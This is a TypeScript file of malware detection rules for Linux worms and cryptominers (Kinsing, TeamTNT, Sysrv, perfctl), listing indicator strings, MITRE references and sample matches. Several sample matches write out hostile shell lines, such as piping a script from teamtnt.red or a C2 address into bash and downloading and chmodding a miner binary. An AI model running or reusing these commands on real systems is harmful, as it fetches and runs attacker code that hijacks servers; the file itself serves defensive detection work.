import type { ContentRule } from './rule.ts'

/** Malware that takes over servers and their clouds, one after the other. */
export const WORMS: readonly ContentRule[] = [
  {
    number: 40,
    name: 'Linux.Worm.Kinsing',
    title: ['Kinsing (H2Miner)', 'Kinsing（H2Miner）'],
    kind: 'worm',
    in: ['program'],
    when: {
      any: [
        {
          atLeast: 2,
          of: [
            'main.getMinerPid',
            'main.isMinerRunning',
            'main.redisBrute',
            'main.getActiveC2CUrl',
            'main.healthChecker',
            'main.resultSender',
            'main.minerRunningCheck',
            'main.runTaskWithHttp',
            'main.tcpScan',
            'main.killMiner',
            'main.masscan',
            'main.syncCmd',
            'main.startCmd',
            'main.getTargets',
            'main.backconnect',
          ],
        },
        { all: ['kinsing', 'kdevtmpfsi'] },
        { all: ['kdevtmpfsi', { any: ['/tmp', '/getTask', 'masscan', 'firewire', 'redis'] }] },
      ],
    },
    references: [
      'https://attack.mitre.org/software/S0599/',
      'https://www.aquasec.com/blog/threat-alert-kinsing-malware-container-vulnerability/',
    ],
    match: ['main.getActiveC2CUrl', 'main.redisBrute', 'main.minerRunningCheck', 'main.masscan', '/tmp/kdevtmpfsi'],
    harmless: ['main.startServer', 'kdevtmpfs', 'redis'],
  },
  {
    number: 41,
    name: 'Script.Worm.Kinsing',
    title: ['Script that installs Kinsing', '安装 Kinsing 的脚本'],
    kind: 'worm',
    in: ['script', 'text'],
    when: {
      any: [
        {
          all: [
            'kinsing',
            { any: ['curl ', 'wget ', 'download'] },
            { any: ['chmod', 'crontab', 'ld.so.preload', 'pkill', 'kdevtmpfsi'] },
          ],
        },
        { all: ['kdevtmpfsi', 'crontab', { any: ['curl ', 'wget '] }] },
      ],
    },
    references: [
      'https://attack.mitre.org/software/S0599/',
      'https://www.aquasec.com/blog/threat-alert-kinsing-malware-container-vulnerability/',
    ],
    match: [
      '#!/bin/bash',
      'BIN_NAME="kinsing"; BIN_FULL_PATH="$BIN_PATH/$BIN_NAME"',
      'pkill -f kdevtmpfsi',
      'wget -q -O $BIN_FULL_PATH $1; chmod +x $BIN_FULL_PATH',
    ],
    harmless: ['#!/bin/bash', '# ends kinsing and others if they run', 'pkill kinsing'],
  },
  {
    number: 42,
    name: 'Worm.TeamTNT',
    title: ['Tools of TeamTNT', 'TeamTNT 工具'],
    kind: 'worm',
    in: ['program', 'script', 'text'],
    when: {
      any: [
        {
          atLeast: 2,
          of: [
            'teamtnt',
            'borg.wtf',
            'chimaera.cc',
            'hildegard@',
            'TNTcurl',
            'TNTwget',
            'tntrecht',
            'kube.lateral',
            'dockergeddon',
            'teamtnt.red',
            'grab_aws',
            'tsm_key',
            'SilentBob',
            'anondns.net',
            'TeamTNT_gpu',
          ],
        },
        { all: ['teamtnt', { any: ['curl', 'wget', 'docker', 'xmrig', 'authorized_keys'] }] },
      ],
    },
    attack: ['T1496.001', 'T1610', 'T1552.005'],
    references: [
      'https://attack.mitre.org/groups/G0139/',
      'https://unit42.paloaltonetworks.com/hildegard-malware-teamtnt/',
    ],
    match: [
      '#!/bin/bash',
      '# HildeGard@TeamTNT',
      'export TNTcurl=$(command -v curl)',
      'curl -fsSL http://teamtnt.red/dns | bash',
    ],
    harmless: ['#!/bin/bash', '# weaveworks scope is installed', 'curl -L git.io/scope -o /usr/local/bin/scope'],
  },
  {
    number: 43,
    name: 'Linux.Worm.Sysrv',
    title: ['Sysrv (Sysrv-hello)', 'Sysrv（Sysrv-hello）'],
    kind: 'worm',
    in: ['program', 'script'],
    when: {
      any: [
        {
          atLeast: 2,
          of: ['hello/src/exp', 'hello/src/scan', 'hello/src/nu', 'hello_src_exp', 'hello_src_scan', 'hello_src_nu'],
        },
        { all: ['hello_src', { any: ['shell/', 'exploit', 'sysrv', 'exp/', 'scan'] }] },
        {
          all: [
            'sysrv',
            { any: ['kthreaddi', 'kthreaddk', 'network01', 'ldr.sh', 'xmr', 'chmod', '/tmp'] },
            { any: ['curl', 'wget', 'ldr.sh', 'exp', 'ps aux', 'pkill', 'go.'] },
          ],
        },
        { all: ['kthreaddi', { any: ['ldr.sh', 'crontab', 'pool'] }] },
        {
          all: [
            'ldr.sh',
            { any: ['sysrv', 'xmr', 'curl', 'wget'] },
            { any: ['crontab', 'pkill', 'authorized_keys', 'known_hosts'] },
          ],
        },
      ],
    },
    references: [
      'https://www.lacework.com/blog/sysrv-hello-expands-infrastructure/',
      'https://attack.mitre.org/techniques/T1210/',
    ],
    match: [
      '#!/bin/bash',
      'cc=http://10.9.8.7',
      'sys=$(date|md5sum|awk -v n="$(date +%s)" \'{print substr($1,1,n%7+6)}\')',
      'get $cc/sysrv $sys; chmod 777 $sys; pkill -9 kthreaddi',
      '(curl -fsSL $cc/ldr.sh || wget -q -O- $cc/ldr.sh) | bash # crontab',
    ],
    harmless: ['#!/bin/bash', 'systemctl restart sysrv', 'kthreadd is the parent of threads of the kernel'],
  },
  {
    number: 44,
    name: 'Linux.Worm.perfctl',
    title: ['perfctl', 'perfctl'],
    kind: 'worm',
    in: ['program', 'script', 'text'],
    when: {
      any: [
        {
          atLeast: 2,
          of: [
            'perfctl',
            'perfcc',
            '/tmp/.perf.c',
            'libgcwrap.so',
            'wizlmsh',
            'libfsnldev.so',
            'libpprocps.so',
            '/tmp/.xdiag',
            '.config/cron/perf',
            'AAZHDE',
            'ABWTRX',
            '/usr/bin/.local/bin',
            'ATI_OVERRIDE',
          ],
        },
        { all: ['AAZHDE', { any: ['export ', 'getenv', '/tmp'] }] },
      ],
    },
    attack: ['T1496.001', 'T1014', 'T1574.006'],
    references: [
      'https://www.aquasec.com/blog/perfctl-a-stealthy-malware-targeting-millions-of-linux-servers/',
      'https://attack.mitre.org/techniques/T1574/006/',
    ],
    match: ['/root/.config/cron/perfcc', '/tmp/.perf.c', '/lib/libgcwrap.so', '/tmp/.xdiag/cp'],
    harmless: ['perf record', 'libgcc', 'perf.c'],
  },
]
